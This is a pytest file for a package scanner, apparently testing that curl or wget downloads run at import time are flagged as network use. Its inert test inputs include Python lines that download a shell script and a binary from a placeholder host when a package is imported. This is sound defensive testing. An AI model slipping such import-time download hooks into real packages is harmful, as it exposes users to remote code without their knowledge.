"""Rules 41: a download by ``curl`` or ``wget`` that importing the package runs is network use
on import, as it was already at install (``os.system("curl https://...")`` uses the network
as surely as ``urlopen``).

From ``benchmarks/scan_mutations.py`` (``relocate``): setup code moved into a module that
``setup.py`` imports is judged as import-time code, where a ``curl`` run counted as a
process and not as the network.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from tests.support.archives import wheel
from tests.support.scan import judge


def _imported(init: str) -> dict[str, float]:
    rules, _held = judge(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
    return rules


@pytest.mark.parametrize(
    "init",
    [
        "import os\nos.system('curl -s https://cdn.example.net/a.sh -o /tmp/a.sh')\n",
        "import subprocess\nsubprocess.run(['wget', '-q', 'https://cdn.example.net/a.bin'])\n",
    ],
)
def test_a_download_run_on_import_is_network_use(init: str) -> None:
    assert _imported(init).get("import-network") == 5


def test_a_command_that_fetches_nothing_is_no_network_use() -> None:
    rules = _imported("import subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'])\n")
    assert "import-process" in rules
    assert "import-network" not in rules


def test_a_download_in_a_function_nothing_calls_is_not_import_time() -> None:
    rules = _imported(
        "import os\ndef fetch():\n    os.system('curl -s https://cdn.example.net/a.sh')\n"
    )
    assert "import-network" not in rules
